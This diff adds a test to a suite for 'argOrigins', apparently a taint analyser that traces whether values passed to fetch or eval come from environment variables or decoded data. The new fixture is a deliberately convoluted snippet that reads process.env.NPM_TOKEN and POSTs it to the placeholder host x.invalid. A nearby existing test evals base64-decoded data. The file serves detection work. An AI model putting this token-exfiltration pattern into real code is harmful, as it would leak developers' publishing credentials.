@@ -140,6 +140,16 @@ describe('where values come from', () => {
     expect(argOrigins(code, 'fetch')).toContain('env');
   });
 
+  it('what a variable learns midway through a pass is seen by the rest of that pass', () => {
+    // Three hops written bottom-up need all three passes; `b = a` must see the `a` set inside the function
+    // the same pass, although the array holding both was looked at (and remembered) before `a` was set.
+    const code = `function send() { fetch('https://x.invalid', { method: 'POST', body: e }); }
+      var e = d;
+      var d = b;
+      var c = [function () { a = process.env.NPM_TOKEN; }, (b = a)];`;
+    expect(argOrigins(code, 'fetch')).toContain('env');
+  });
+
   it('decoded data', () => {
     expect(argOrigins("eval(Buffer.from(payload, 'base64').toString())", 'eval')).toContain('decoded');
   });
